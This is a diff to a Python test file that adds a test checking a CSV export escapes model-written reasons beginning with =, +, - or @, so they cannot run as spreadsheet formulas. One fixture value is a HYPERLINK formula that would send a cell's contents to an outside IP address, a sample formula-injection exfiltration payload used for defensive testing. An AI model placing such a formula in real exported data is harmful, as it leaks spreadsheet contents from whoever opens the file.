@@ -13,7 +13,7 @@ from typing import Any
 import pytest
 
 from moot.cli import main
-from moot.core.evaluate import CRITERIA, EvaluatorResult, Score, averages, parse_scores, parse_value
+from moot.core.evaluate import CRITERIA, EvaluatorResult, Score, averages, parse_scores, parse_value, render_csv
 from moot.core.models.state import DebateState
 from moot.core.storage.folder import DebateFolder
 from tests.conftest import Faults, make_server, moot, run_debate
@@ -206,3 +206,18 @@ def test_missing_key_is_a_config_error(debate: tuple[DebateState, DebateFolder],
     assert _run(["-c", cfg], debate) == 4
     err = capsys.readouterr().err
     assert err.count("\n") == 1 and "no API key" in err
+
+
+def test_csv_reasons_cannot_start_a_spreadsheet_formula() -> None:
+    """A reason is a model's text: one starting with = + - @ would run as a formula in a
+    spreadsheet, so it gets a leading quote; a score stays a number."""
+    scores = {c: Score(7, "Clear boundaries between the modules.") for c in CRITERIA}
+    scores["security"] = Score(4, '=HYPERLINK("http://198.51.100.7/?k="&B2,"details")')
+    scores["overall"] = Score(6, "-1 for the missing restore drill", note="@mention of the backups")
+    rows = list(csv.DictReader(io.StringIO(render_csv([EvaluatorResult("eval-1", "eval-1", "openai", "loop",
+                                                                       scores)]))))
+    by = {r["criterion"]: r for r in rows if r["evaluator"] == "eval-1"}
+    assert by["security"]["reason"] == '\'=HYPERLINK("http://198.51.100.7/?k="&B2,"details")'
+    assert (by["overall"]["reason"], by["overall"]["note"]) == ("'-1 for the missing restore drill",
+                                                               "'@mention of the backups")
+    assert by["overall"]["score"] == "6" and by["performance"]["reason"] == "Clear boundaries between the modules."
